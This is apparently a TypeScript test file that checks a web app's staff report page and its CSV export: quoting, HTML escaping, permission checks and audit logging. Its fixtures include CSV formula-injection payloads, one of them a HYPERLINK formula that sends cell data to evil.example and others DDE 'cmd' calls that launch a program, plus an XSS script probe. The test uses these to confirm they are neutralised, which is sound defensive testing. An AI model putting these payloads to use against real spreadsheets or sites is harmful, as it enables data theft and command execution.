// DESIGN §1.3 "Reporting": /reports/users lists every user with their MFA state and exports CSV.
// The CSV is read back with an RFC 4180 parser, so quoting mistakes show up as wrong cells;
// user-typed names that a spreadsheet would run as formulas must arrive as text.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sql } from 'drizzle-orm';
import { ManualClock } from '../../src/clock.ts';
import { runCommand } from '../../src/cli/commands.ts';
import { DB_KINDS, startTestHaven, TEST_PASSWORD, type TestHaven } from '../helpers/app.ts';
import type { TestClient } from '../helpers/client.ts';

/** RFC 4180: fields separated by commas, records by CRLF or LF; quoted fields may hold both, "" is a quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}: ${JSON.stringify(text.slice(i - 10, i + 10))}`);
      quoted = true;
    } else if (c === ',') record.push(field), (field = '');
    else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      record.push(field), records.push(record), (record = []), (field = '');
    } else if (c === '\r') throw new Error(`bare CR outside quotes at ${i}`);
    else field += c;
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length) record.push(field), records.push(record);
  return records;
}

const HEADER = ['Login', 'Name', 'Role', 'Login Active', 'MFA enabled', 'MFA method', 'Last login (UTC)'];

// Names a spreadsheet would evaluate, each with the characters that make it a formula.
const FORMULA_NAMES = {
  eq: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
};

const tbodyRows = (html: string) =>
  [...(/<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '').matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) =>
    [...m[1]!.matchAll(/<td>([\s\S]*?)<\/td>/g)].map((c) => c[1]!),
  );

describe.each(DB_KINDS)('users report (%s)', (kind) => {
  let haven: TestHaven;
  let admin: TestClient;
  const setName = (login: string, name: string) => haven.app.database.rows(sql`UPDATE users SET full_name = ${name} WHERE login = ${login}`);
  const userCount = async () => (await haven.app.database.rows<{ n: number }>(sql`SELECT count(*)::int AS n FROM users`))[0]!.n;
  const exports = async () =>
    haven.app.database.rows<{ actor_login: string; ip: string; details: { rows: number; format: string } }>(
      sql`SELECT actor_login, ip, details FROM audit_log WHERE action = 'report.users.export' ORDER BY seq`,
    );

  beforeAll(async () => {
    // Late evening UTC: the file name must take its date from the app clock, in UTC.
    haven = await startTestHaven(kind, { clock: new ManualClock('2031-07-14T23:30:00Z') });
    await haven.createUser('root', 'Site Administrator');
    await haven.createUser('sam', 'Paralegal');
    await haven.createUser('sue', 'Supervisor');
    await haven.createUser('ina', 'Intake Worker');
    await haven.createUser('gone', 'Attorney');
    await haven.createUser('appy', 'Attorney');
    await haven.createUser('mailer', 'Supervisor');
    // The MFA state is set in the table the report reads (these two never sign in here, so
    // the login's MFA step does not come into it).
    await haven.app.database.rows(sql`UPDATE users SET mfa_enabled = true, mfa_method = 'app', last_login_at = '2031-07-01T08:15:30Z' WHERE login = 'appy'`);
    await haven.app.database.rows(sql`UPDATE users SET mfa_enabled = true, mfa_method = 'email' WHERE login = 'mailer'`);
    await haven.app.database.rows(sql`UPDATE users SET login_active = false WHERE login = 'gone'`);
    for (const [key, name] of Object.entries(FORMULA_NAMES)) {
      await haven.createUser(`f-${key}`, 'Read Only');
      await setName(`f-${key}`, name);
    }
    await setName('ina', 'Ina "Ace" Mc,Donald\nSecond line, "quoted"');
    await setName('gone', 'Gone <script>alert(1)</script> O\'Brien');
    await haven.client().login('sam', TEST_PASSWORD);
    haven.clock.advance(60_000);
    admin = haven.client({ ip: '198.51.100.44' });
    await admin.login('root', TEST_PASSWORD);
  });
  afterAll(() => haven?.close());

  test('the page lists every user with login, name, role, Login Active, MFA enabled, MFA method and last login', async () => {
    const page = await admin.get('/reports/users');
    expect(page.status).toBe(200);
    expect(page.headers['cache-control']).toBe('no-store');
    const headers = [...page.body.matchAll(/<th scope="col">([^<]*)<\/th>/g)].map((m) => m[1]);
    expect(headers).toEqual(HEADER);
    const rows = tbodyRows(page.body);
    expect(rows).toHaveLength(await userCount());
    const byLogin = new Map(rows.map((r) => [r[0], r]));
    expect(byLogin.get('sam')).toEqual(['sam', 'User sam', 'Paralegal', 'Yes', 'No', '', '2031-07-14 23:30:00']);
    expect(byLogin.get('appy')).toEqual(['appy', 'User appy', 'Attorney', 'Yes', 'Yes', 'app', '2031-07-01 08:15:30']);
    expect(byLogin.get('mailer')).toEqual(['mailer', 'User mailer', 'Supervisor', 'Yes', 'Yes', 'email', 'never']);
    expect(byLogin.get('root')).toEqual(['root', 'User root', 'Site Administrator', 'Yes', 'No', '', '2031-07-14 23:31:00']);
    // Names are shown as text, never as markup.
    expect(byLogin.get('gone')!.slice(1, 4)).toEqual(['Gone &lt;script>alert(1)&lt;/script> O\'Brien', 'Attorney', 'No']);
    expect(page.body).not.toContain('<script>alert(1)');
    // The administrator's navigation leads here.
    expect((await admin.get('/')).body).toContain('<a href="/reports/users">Users Report</a>');
  });

  test('?format=csv exports the same rows, quoted so that commas, quotes and line breaks survive', async () => {
    const before = (await exports()).length;
    const r = await admin.get('/reports/users?format=csv');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toBe('attachment; filename="haven-users-2031-07-14.csv"');
    // A staff list must not stay in a shared cache either.
    expect(r.headers['cache-control']).toBe('no-store');
    const records = parseCsv(r.body);
    expect(records[0]).toEqual(HEADER);
    const rows = records.slice(1);
    expect(rows).toHaveLength(await userCount());
    expect(rows.every((row) => row.length === HEADER.length)).toBe(true);
    const byLogin = new Map(rows.map((row) => [row[0], row]));
    expect(byLogin.get('ina')).toEqual(['ina', 'Ina "Ace" Mc,Donald\nSecond line, "quoted"', 'Intake Worker', 'Yes', 'No', '', '']);
    expect(byLogin.get('sam')).toEqual(['sam', 'User sam', 'Paralegal', 'Yes', 'No', '', '2031-07-14 23:30:00']);
    expect(byLogin.get('appy')).toEqual(['appy', 'User appy', 'Attorney', 'Yes', 'Yes', 'app', '2031-07-01 08:15:30']);
    expect(byLogin.get('mailer')).toEqual(['mailer', 'User mailer', 'Supervisor', 'Yes', 'Yes', 'email', '']);
    expect(byLogin.get('gone')!.slice(1, 4)).toEqual(['Gone <script>alert(1)</script> O\'Brien', 'Attorney', 'No']);
    // The page and the file agree on every user.
    const page = tbodyRows((await admin.get('/reports/users')).body);
    expect(rows.map((row) => row[0]).sort()).toEqual(page.map((row) => row[0]).sort());
    expect((await exports()).length).toBe(before + 1);

    // The date is the app clock's, in UTC.
    haven.clock.advance(60 * 60_000);
    expect((await admin.get('/reports/users?format=csv')).headers['content-disposition']).toBe('attachment; filename="haven-users-2031-07-15.csv"');
  });

  test('a name that a spreadsheet would run as a formula is exported as text', async () => {
    // One of them arrives the ordinary way: an administrator types it on the user's page.
    const target = await haven.app.db.query.users.findFirst({ where: (u, { eq }) => eq(u.login, 'f-eq') });
    await setName('f-eq', 'placeholder');
    const saved = await admin.submit(`/admin/users/${target!.id}`, {
      fullName: FORMULA_NAMES.eq,
      email: 'f-eq@example.org',
      roleId: target!.roleId,
      loginActive: 'yes',
    });
    expect(saved.status).toBe(303);
    const r = await admin.get('/reports/users?format=csv');
    const byLogin = new Map(parseCsv(r.body).slice(1).map((row) => [row[0], row]));
    for (const [key, name] of Object.entries(FORMULA_NAMES)) {
      expect(byLogin.get(`f-${key}`)![1], key).toBe(`'${name}`);
    }
    // Every cell, not only names: no cell of the file starts a formula.
    for (const row of parseCsv(r.body)) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Ordinary names are left alone.
    expect(byLogin.get('sam')![1]).toBe('User sam');
  });

  test('an unknown format is refused with a message saying what is accepted, never a 500', async () => {
    const before = (await exports()).length;
    for (const url of ['/reports/users?format=xlsx', '/reports/users?format=CSV', '/reports/users?format=csv&format=csv', '/reports/users?format=%00%ff']) {
      const r = await admin.get(url);
      expect(r.status, url).toBe(400);
      expect(r.body, url).toContain('Use format=csv to download a CSV file');
      expect(r.headers['content-type'], url).toMatch(/^text\/html/);
    }
    expect((await admin.get('/reports/users?format=xlsx')).body).toContain('Unknown report format (&quot;xlsx&quot;)');
    expect((await exports()).length).toBe(before);
    expect((await admin.get('/reports/users?format=')).status).toBe(200);
  });

  test('refused to anyone without admin_users, even with reports_view; nothing is exported or recorded', async () => {
    const before = (await exports()).length;
    for (const login of ['sam', 'sue']) {
      const browser = haven.client();
      await browser.login(login, TEST_PASSWORD);
      // Fully signed in: the refusal below is about the permission, not a missing login step.
      expect((await browser.get('/')).status, login).toBe(200);
      for (const url of ['/reports/users', '/reports/users?format=csv']) {
        const r = await browser.get(url);
        expect(r.status, `${login} ${url}`).toBe(403);
        expect(r.body).not.toContain('User root');
        expect(r.headers['content-disposition']).toBeUndefined();
      }
      expect((await browser.get('/')).body).not.toContain('/reports/users');
    }
    const anonymous = await haven.client().get('/reports/users?format=csv');
    expect(anonymous.status).toBe(303);
    expect(anonymous.location).toMatch(/^\/login\?next=/);
    expect((await exports()).length).toBe(before);
  });

  test('every export is in the audit log: who, from where, how many rows; the chain still verifies', async () => {
    const before = (await exports()).length;
    await admin.get('/reports/users?format=csv');
    const entries = await exports();
    expect(entries).toHaveLength(before + 1);
    expect(entries.at(-1)).toMatchObject({ actor_login: 'root', ip: '198.51.100.44', details: { format: 'csv', rows: await userCount() } });
    // Viewing the page is not an export.
    await admin.get('/reports/users');
    expect(await exports()).toHaveLength(before + 1);
    expect((await runCommand(haven.app, { argv: ['audit', 'verify'] })).code).toBe(0);
  });
});
